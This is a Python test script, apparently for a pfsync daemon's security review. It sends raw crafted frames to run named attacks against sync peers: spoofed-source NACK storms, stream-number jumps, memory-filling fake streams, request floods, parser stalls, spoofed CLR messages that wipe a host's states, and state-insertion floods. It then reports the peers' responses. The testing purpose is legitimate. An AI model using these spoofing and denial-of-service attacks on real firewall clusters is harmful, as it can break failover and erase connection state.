#!/usr/bin/python3
"""attacker.py - a hostile host on the sync link (unsealed pfsync), for
test_hostile.sh.  It runs one attack of the security review
(security-2026-12.md) and reports, as one JSON line, what came back.

usage: attacker.py IFACE A_IP A_MAC B_IP B_MAC ATTACK [SECS]
(A_HOSTID for m9; C_IP, C_MAC and C_HOSTID, a third node, for m9ct)

Packets are written whole as Ethernet frames on an AF_PACKET socket
(protocol 240, TTL 255, any source address: also 0.0.0.0, which a raw
IP socket would fill in), fragmented here when longer than the MTU.
Their bytes follow pfsync-v3.md (v3 header, records, §2), wire_ext.h
(the pfsyncd trailer) and pfsync-modern.md (v5 and v6 headers and
sections), written here, not taken from pfsyncd.

While the attack runs, and SECS (default 1.5) after it, every frame on
IFACE is read (ETH_P_ALL): what A and B send to this host's MAC (its own
address, or a spoofed source that the test routes here) is counted per
destination, and what they send to the group is followed (A's stream
numbers, bulk ENDs).  The report:

  sent_pkts, sent_bytes    what we sent (IP packets, IP bytes)
  to_us_pkts, to_us_bytes  unicast from A or B to any of our addresses
  to_spoof_pkts/_bytes     ... of them to spoofed sources (not IFACE's)
  by_dst                   {dst: packets}
  kinds                    {dst: {v3 action: packets}}
  group_resent             A's DATA packets seen again on the group
                           (numbers at or below the highest seen before
                           the attack's first NACK)
  bus_start_during         A's bulk STARTs seen while the attack sent
  bus_end_during           ... and its ENDs
  a_group_bytes            bytes A sent to the group meanwhile
  epoch, seq               A's stream as read from its trailers
"""
import json
import os
import random
import socket
import struct
import sys
import threading
import time

import mixpeer

GROUP = "224.0.0.240"
GROUP_MAC = bytes.fromhex("01005e0000f0")
ETH_P_IP = 0x0800
ETH_P_ALL = 0x0003
MTU = 1500

# v3 actions (pfsync-v3.md §2.1)
CLR, INS, UPD_C, DEL_C, UREQ, BUS = 0, 1, 4, 5, 8, 9
# pfsyncd trailer kinds (wire_ext.h)
K_DATA, K_HB, K_NACK, K_GONE, K_ACK = 1, 2, 3, 4, 5


def mac(s):
    return bytes.fromhex(s.replace(":", ""))


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip_frags(src, dst, payload, ident):
    """IPv4 packets (proto 240, TTL 255) carrying payload, fragmented."""
    room = (MTU - 20) // 8 * 8
    out, off = [], 0
    while True:
        part = payload[off:off + room]
        more = off + len(part) < len(payload)
        flags = (0x2000 if more else 0) | (off // 8)
        h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(part), ident,
                        flags, 255, 240, 0, socket.inet_aton(src),
                        socket.inet_aton(dst))
        h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
        out.append(h + part)
        off += len(part)
        if not more:
            return out


def v3(action, count, body):
    return struct.pack("!BBBB", 3, 0, action, count) + bytes(16) + body


def trailer(kind, arg, epoch, seq):
    return struct.pack("!BBHII", 0xF5, 0x10 | kind, arg, epoch & 0xFFFFFFFF,
                       seq & 0xFFFFFFFF)


def ctl_pkt(kind, arg, epoch, seq):
    """HB, NACK, GONE: an empty UPD_C with the trailer (wire_ext.h)."""
    return v3(UPD_C, 0, b"") + trailer(kind, arg, epoch, seq)


def bsd_header(version, body):
    return struct.pack("!BBH", version, 0, 20 + len(body)) + bytes(16) + body


class Attacker:
    def __init__(self, iface, a_ip, a_mac, b_ip, b_mac):
        self.iface = iface
        self.a_ip, self.b_ip = a_ip, b_ip
        self.a_mac, self.b_mac = mac(a_mac), mac(b_mac)
        with open("/sys/class/net/%s/address" % iface) as f:
            self.mac = mac(f.read().strip())
        self.me = self.own_addr()
        self.tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.tx.bind((iface, 0))
        self.rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                                socket.htons(ETH_P_ALL))
        self.rx.bind((iface, ETH_P_ALL))
        self.rx.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
        self.rx.settimeout(0.1)
        # a protocol-240 socket of our own: no "protocol unreachable"
        # goes back for what is sent to our address
        self.sink = socket.socket(socket.AF_INET, socket.SOCK_RAW, 240)
        self.ident = random.randrange(1, 0xFFFF)
        self.lock = threading.Lock()
        self.stop = False
        self.r = {"sent_pkts": 0, "sent_bytes": 0, "to_us_pkts": 0,
                  "to_us_bytes": 0, "to_spoof_pkts": 0, "to_spoof_bytes": 0,
                  "by_dst": {}, "kinds": {}, "group_resent": 0,
                  "bus_start_during": 0, "bus_end_during": 0,
                  "a_group_bytes": 0, "epoch": 0, "seq": 0}
        self.seen_max = 0      # A's highest DATA number seen
        self.resend_floor = None  # numbers at or below: resent
        self.sending = False
        self.thread = threading.Thread(target=self.listen, daemon=True)
        self.thread.start()

    def own_addr(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE,
                     self.iface.encode())
        s.connect((self.a_ip, 9))
        a = s.getsockname()[0]
        s.close()
        return a

    # --- listening ----------------------------------------------------
    def listen(self):
        while not self.stop:
            try:
                fr, addr = self.rx.recvfrom(65535)
            except socket.timeout:
                continue
            if addr[2] == socket.PACKET_OUTGOING or len(fr) < 34:
                continue
            if struct.unpack("!H", fr[12:14])[0] != ETH_P_IP:
                continue
            with self.lock:
                self.take(fr[:6], fr[14:])

    def take(self, dmac, ip):
        if ip[9] != 240:
            return
        src = socket.inet_ntoa(ip[12:16])
        dst = socket.inet_ntoa(ip[16:20])
        tot = struct.unpack("!H", ip[2:4])[0]
        if src not in (self.a_ip, self.b_ip):
            return
        if dmac == self.mac:
            self.r["to_us_pkts"] += 1
            self.r["to_us_bytes"] += tot
            self.r["by_dst"][dst] = self.r["by_dst"].get(dst, 0) + 1
            if dst != self.me:
                self.r["to_spoof_pkts"] += 1
                self.r["to_spoof_bytes"] += tot
            p = ip[(ip[0] & 15) * 4:tot]
            if struct.unpack("!H", ip[6:8])[0] & 0x1FFF == 0 and \
                    len(p) >= 4 and p[0] == 3:
                k = self.r["kinds"].setdefault(dst, {})
                k[str(p[2])] = k.get(str(p[2]), 0) + 1
            return
        if dst != GROUP or src != self.a_ip:
            return
        if self.sending:
            self.r["a_group_bytes"] += tot
        frag = struct.unpack("!H", ip[6:8])[0]
        if frag & 0x3FFF:  # a fragment: not read further
            return
        p = ip[(ip[0] & 15) * 4:tot]
        self.follow(p)

    def follow(self, p):
        if len(p) < 20 or p[0] != 3:
            return
        if p[2] == BUS and len(p) >= 36 and self.sending:
            if p[28] == 1:
                self.r["bus_start_during"] += 1
            elif p[28] == 2:
                self.r["bus_end_during"] += 1
        if len(p) < 32 or p[-12] != 0xF5 or p[-11] >> 4 != 1:
            return
        kind = p[-11] & 15
        epoch, seq = struct.unpack("!II", p[-8:])
        if kind not in (K_DATA, K_HB):
            return
        self.r["epoch"] = epoch
        if kind == K_DATA:
            if self.resend_floor is not None and seq <= self.resend_floor:
                self.r["group_resent"] += 1
            self.seen_max = max(self.seen_max, seq)
        self.r["seq"] = max(self.r["seq"], seq)

    def learn_epoch(self, secs=5.0):
        t = time.monotonic() + secs
        while time.monotonic() < t:
            with self.lock:
                if self.r["epoch"] and self.r["seq"]:
                    return self.r["epoch"], self.r["seq"]
            time.sleep(0.02)
        raise SystemExit("attacker: no trailer from %s seen" % self.a_ip)

    # --- sending ------------------------------------------------------
    def send(self, payload, src=None, dst=None, dmac=None):
        src = src or self.me
        dst = dst or GROUP
        if dmac is None:
            dmac = GROUP_MAC if dst == GROUP else \
                self.a_mac if dst == self.a_ip else \
                mac(os.environ["C_MAC"]) if dst == os.environ.get("C_IP") \
                else self.b_mac
        self.ident = (self.ident + 1) & 0xFFFF
        for pkt in ip_frags(src, dst, payload, self.ident):
            self.tx.send(dmac + self.mac + struct.pack("!H", ETH_P_IP) + pkt)
        with self.lock:
            self.r["sent_pkts"] += 1
            self.r["sent_bytes"] += 20 + len(payload)

    def report(self, settle):
        time.sleep(settle)
        self.stop = True
        self.thread.join()
        print(json.dumps(self.r, sort_keys=True))


def rand_creator():
    return random.randrange(0x10000000, 0xF0000000)


def ins_states(n, creator, first):
    """n distinct v3 states (own lan address each), 6 a packet."""
    pkts, recs = [], []
    for i in range(n):
        k = first + i
        lan = "10.%d.%d.%d" % (200 + (k >> 16 & 15), k >> 8 & 255, k & 255)
        recs.append(mixpeer.state_v3((creator << 24) + k + 1, creator, lan))
        if len(recs) == 6:
            pkts.append(v3(INS, 6, b"".join(recs)))
            recs = []
    if recs:
        pkts.append(v3(INS, len(recs), b"".join(recs)))
    return pkts


# --- the attacks --------------------------------------------------------
def m1_nack(x):
    """M1: a fake stream that never acknowledges (A's ring stays full),
    then NACKs of A's whole ring from a spoofed source routed to us, and
    from 0.0.0.0 to the group."""
    epoch, seq = x.learn_epoch()
    x.send(ctl_pkt(K_HB, 0x8000, rand_creator(), 0))
    x.send(v3(UREQ, 1, bytes(16)), dst=x.a_ip)
    time.sleep(0.5)
    with x.lock:
        x.resend_floor = x.seen_max
        x.sending = True
    first = max(1, seq - 0xFFFE)
    x.send(ctl_pkt(K_NACK, 0xFFFF, epoch, first), src="192.0.2.77",
           dst=x.a_ip)
    time.sleep(0.5)
    x.send(ctl_pkt(K_NACK, 0xFFFF, epoch, first), src="0.0.0.0")
    time.sleep(0.5)
    x.sending = False


def m2_hb(x, kind=K_HB):
    """M2: A's stream number pushed 2^31 ahead at B, from A's address."""
    epoch, seq = x.learn_epoch()
    x.send(ctl_pkt(kind, 0x8000, epoch, seq + 0x7FFFFFFF), src=x.a_ip,
           dst=x.b_ip)


def m2_gone(x):
    m2_hb(x, K_GONE)


def m2_streams(x):
    """M2: 32 fake streams, each with a gap after its first packet, and
    ~52 MB of 4 KB packets held back behind the gaps at B."""
    body = b"".join(struct.pack("!QII", random.getrandbits(64), 0x0BAD0002,
                                0) for _ in range(255))
    x.sending = True
    epochs = [rand_creator() for _ in range(32)]
    for e in epochs:
        x.send(v3(UPD_C, 0, b"") + trailer(K_DATA, 0x8000, e, 1),
               dst=x.b_ip)
    for s in range(3, 403):
        for e in epochs:
            x.send(v3(DEL_C, 255, body) + trailer(K_DATA, 0x8000, e, s),
                   dst=x.b_ip)
        time.sleep(0.002)
    x.sending = False


def m3_ureq(x, secs=4.0, every=0.2):
    """M3: a bulk request {0, 0} to A every `every` s for `secs` s."""
    x.learn_epoch()
    x.sending = True
    t = time.monotonic() + secs
    while time.monotonic() < t:
        x.send(v3(UREQ, 1, bytes(16)), dst=x.a_ip)
        time.sleep(every)
    x.sending = False


def m4_stride0(x, n=12, every=0.0):
    """M4a: 9 KB v6 packets of {OINS, len 0, count 65535} sections, in a
    burst (the target reads them in one batch: one long stall)."""
    body = struct.pack("!BBH", 1, 0, 0xFFFF) * 2290
    x.sending = True
    for _ in range(n):
        x.send(bsd_header(6, body), dst=x.a_ip)
        time.sleep(every)
    x.sending = False


def m4_clr(x, n=30, every=0.0):
    """M4b: v6 CLR sections of 458 random (unknown) creators each (the
    most a 9216-byte IP packet holds), in a burst."""
    x.sending = True
    for _ in range(n):
        recs = b"".join(bytes(16) + struct.pack("!I", rand_creator())
                        for _ in range(458))
        x.send(bsd_header(6, struct.pack("!BBH", 0, 5, 458) + recs),
               dst=x.a_ip)
        time.sleep(every)
    x.sending = False


def m5_dialect(x):
    """M5: bare v6 and v5 headers from spoofed sources (to the group),
    40 of them rotated at ~1 kpps, and a v6 header from A's address
    to B."""
    x.sending = True
    x.send(bsd_header(6, b""), src="198.51.100.1")
    x.send(bsd_header(5, b""), src="198.51.100.2")
    x.send(bsd_header(6, b""), src=x.a_ip, dst=x.b_ip)
    for i in range(1500):
        v = 6 if i % 2 else 5
        x.send(bsd_header(v, b""), src="198.51.100.%d" % (10 + i % 40))
        if i % 10 == 0:
            time.sleep(0.01)
    x.sending = False


def l6_updc(x):
    """L6: UPD_C of 16 unknown states from a spoofed source."""
    cr = rand_creator()
    recs = b"".join(struct.pack("!QI", random.getrandbits(64), cr) +
                    bytes(76) for _ in range(16))
    x.sending = True
    x.send(v3(UPD_C, 16, recs), src="192.0.2.50", dst=x.a_ip)
    time.sleep(0.5)
    x.sending = False


def m9_clr(x):
    """M9: a CLR naming A's own hostid (read from its BUS or states)."""
    hostid = int(os.environ["A_HOSTID"], 0)
    x.send(v3(CLR, 0, bytes(16) + struct.pack("!II", hostid, 0)),
           dst=x.a_ip)


def m9_clr_ct(x):
    """M9 with the conntrack backend: a CLR naming C's hostid, to C."""
    hostid = int(os.environ["C_HOSTID"], 0)
    x.send(v3(CLR, 0, bytes(16) + struct.pack("!II", hostid, 0)),
           dst=os.environ["C_IP"])


def m6_flood(x):
    """M6: 3000 states inserted at B, 6 a packet."""
    x.sending = True
    for i, p in enumerate(ins_states(3000, 0x0BAD0006, 0)):
        x.send(p, dst=x.b_ip)
        if i % 20 == 0:
            time.sleep(0.005)
    x.sending = False


def m6_clean(x):
    """The flood's states cleared again (a CLR of the flood's creator)."""
    x.send(v3(CLR, 0, bytes(16) + struct.pack("!II", 0x0BAD0006, 0)),
           dst=x.b_ip)


ATTACKS = {"m1": m1_nack, "m2hb": m2_hb, "m2gone": m2_gone,
           "m2streams": m2_streams, "m3": m3_ureq, "m4stride0": m4_stride0,
           "m4clr": m4_clr, "m5": m5_dialect, "l6": l6_updc, "m9": m9_clr,
           "m9ct": m9_clr_ct,
           "m6": m6_flood, "m6clean": m6_clean}


def main():
    a = sys.argv
    if len(a) < 7 or a[6] not in ATTACKS:
        raise SystemExit(__doc__)
    x = Attacker(a[1], a[2], a[3], a[4], a[5])
    settle = float(a[7]) if len(a) > 7 else 1.5
    ATTACKS[a[6]](x)
    x.report(settle)


if __name__ == "__main__":
    main()
